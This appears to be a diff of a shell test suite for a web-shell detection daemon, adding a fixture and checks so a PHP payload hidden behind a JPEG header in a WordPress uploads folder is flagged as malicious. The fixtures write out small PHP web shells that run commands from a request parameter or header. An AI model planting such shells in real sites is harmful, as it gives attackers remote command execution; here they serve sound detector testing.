@@ -24,6 +24,9 @@ P=$(ws alice)/blog/wp-content/plugins/acme-forms
 mkdir -p "$P/includes"
 # a shell there before the daemon starts: the baseline analyses it too
 printf '<?php\n@system($_SERVER["HTTP_X_CMD"]);\n' > "$P/old-shell.php"
+# ... and PHP behind an image header, in an upload folder
+mkdir -p "$(ws alice)/blog/wp-content/uploads/2023/11"
+printf '\xff\xd8\xff\xe0\0\x10JFIF\0<?php system($_GET["c"]); ?>' > "$(ws alice)/blog/wp-content/uploads/2023/11/logo.jpg"
 printf '<?php\n/* Plugin Name: Acme Forms */\nrequire __DIR__ . "/includes/render.php";\n' > "$P/acme-forms.php"
 printf '<?php\nfunction acme_render($f) {\n\treturn htmlspecialchars($f);\n}\n' > "$P/includes/render.php"
 mkdir -p "$D/rules"
@@ -50,7 +53,8 @@ print(eval(sys.argv[2]))
 PY
 }
 check_eq "baseline: the shell already there is malicious" "malicious critical baseline" "$(evq "$D" 'path$=/acme-forms/old-shell.php' -- verdict severity source)"
-check_eq "baseline: nothing else raised for the unknown plugin" 1 "$(evq "$D" customer=alice severity=critical -- count)"
+check_eq "baseline: PHP behind a JPEG header in uploads is malicious" "malicious critical baseline" "$(evq "$D" 'path$=/2023/11/logo.jpg' -- verdict severity source)"
+check_eq "baseline: nothing else raised for the unknown plugin" 2 "$(evq "$D" customer=alice severity=critical -- count)"
 check_eq "baseline: WordPress's release files (verdict ok) not analysed" 0 "$(sqlq "SELECT count(*) FROM files f JOIN analysis a ON a.sha256=f.sha256 WHERE f.verdict='ok'")"
 check "baseline: the plugin's code analysed ($(sqlq "SELECT count(*) FROM analysis") contents)" test "$(sqlq "SELECT count(*) FROM analysis")" -ge 3
 check_eq "status: the rules version is a SHA-256" 64 "$(st rules_version | tr -d '\n' | wc -c)"
@@ -102,7 +106,15 @@ print(n)' "$1"; }
 nphp=$(find "$(ws bob)" -name '*.php' | wc -l)
 na=$(raised analysis)
 check "real trees (wordpress, mediawiki, dokuwiki): the analysis raises $na of $nphp PHP files (at most 0.5 %)" test $((na * 200)) -le "$nphp"
-echo "# classification alarms on the live copy (not the analysis): $(raised other)"
+# ... and the classification raises nothing either: MediaWiki's fetch.umd.js,
+# a script WordPress ships too, is the unknown wiki's own copy (new, info)
+nc=$(raised other 2>/dev/null)
+check_eq "real trees: the classification raises nothing above info on the live copy" 0 "$nc"
+[ "$nc" = 0 ] || events_json "$D" | $PY -c 'import json,sys
+for l in sys.stdin:
+    e = json.loads(l)
+    if e["customer"] == "bob" and e["severity"] in ("warning", "critical"): print("#  ", e["path"], e["verdict"], e["reason"][:160])'
+check_eq "fetch.umd.js: new, info" "new info" "$(evq "$D" 'path$=/fetch-polyfill/fetch.umd.js' -- verdict severity)"
 
 # -- empty files are no evidence; a release's .htaccess in an upload dir neither
 : > "$(ws bob)/wp/wp-content/uploads-empty.php" 2>/dev/null || true
@@ -186,7 +198,8 @@ for mode in state standalone; do
 	out=$("$WSIDCTL" --config "$D/wsid.yaml" scan "${opt[@]}" "$(ws alice)/blog" 2>/dev/null)
 	check "scan ($mode): MALWARE wp-login.php with its finding and line" grep -qE "^MALWARE +$(ws alice)/blog/wp-login.php  \(exec-of-input, line 2" <<<"$out"
 	check "scan ($mode): the shell in the plugin" grep -qE "^MALWARE +$P/includes/cache-helper.php  \(" <<<"$out"
-	check_eq "scan ($mode): nothing listed from WordPress's release files" 0 "$(grep -E '^(MALWARE|SUSPICIOUS)' <<<"$out" | grep -vc -e /acme-forms/ -e /wp-login.php)"
+	check "scan ($mode): the JPEG holding PHP, as the daemon" grep -qE "^MALWARE +$(ws alice)/blog/wp-content/uploads/2023/11/logo.jpg  \(php-in-image" <<<"$out"
+	check_eq "scan ($mode): nothing listed from WordPress's release files" 0 "$(grep -E '^(MALWARE|SUSPICIOUS)' <<<"$out" | grep -vc -e /acme-forms/ -e /wp-login.php -e /2023/11/logo.jpg)"
 done
 check_eq "scan --json: the findings in \"analysis\"" "malicious exec-of-input" "$("$WSIDCTL" --config "$D/wsid.yaml" scan --json --standalone "$(ws alice)/blog" 2>/dev/null | $PY -c 'import json,sys
 a = [x for x in json.load(sys.stdin)["analysis"] if x["path"].endswith("/blog/wp-login.php")][0]
